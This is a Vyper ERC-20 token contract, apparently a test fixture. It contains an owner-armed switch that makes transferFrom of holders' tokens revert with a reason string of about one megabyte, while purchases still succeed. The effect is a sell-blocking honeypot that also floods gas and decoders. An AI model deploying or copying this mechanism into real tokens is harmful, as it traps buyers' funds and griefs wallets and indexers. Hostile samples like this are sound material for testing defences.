# pragma version 0.4.3
# pragma evm-version cancun
"""
@title An error of a megabyte
@notice Once armed, moving a buyer's tokens with `transferFrom` fails with a reason of
        almost one million letters, as far as the gas allows. Buying works as usual.
"""

from ..tokens.lib import erc20
from .lib import switch

initializes: erc20
initializes: switch

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
    erc20.transfer,
    switch.owner,
    switch.armed,
    switch.arm,
)

LETTERS: constant(bytes32) = 0x4141414141414141414141414141414141414141414141414141414141414141

# Selector of Error(string), the usual shape of a reason.
ERROR: constant(bytes4) = 0x08c379a0

# Less gas than this buys only a tenth of the text.
LARGE_NEEDS: constant(uint256) = 12_000_000


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    switch.__init__()


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    if not switch.armed or source == switch.owner:
        erc20._spend(source, msg.sender, amount)
        erc20._move(source, to, amount)
        return True
    if msg.gas < LARGE_NEEDS:
        few: bytes32[3_125] = empty(bytes32[3_125])
        for i: uint256 in range(3_125):
            few[i] = LETTERS
        raw_revert(abi_encode(convert(32, uint256), convert(100_000, uint256), few, method_id=ERROR))
    many: bytes32[31_250] = empty(bytes32[31_250])
    for i: uint256 in range(31_250):
        many[i] = LETTERS
    raw_revert(abi_encode(convert(32, uint256), convert(1_000_000, uint256), many, method_id=ERROR))
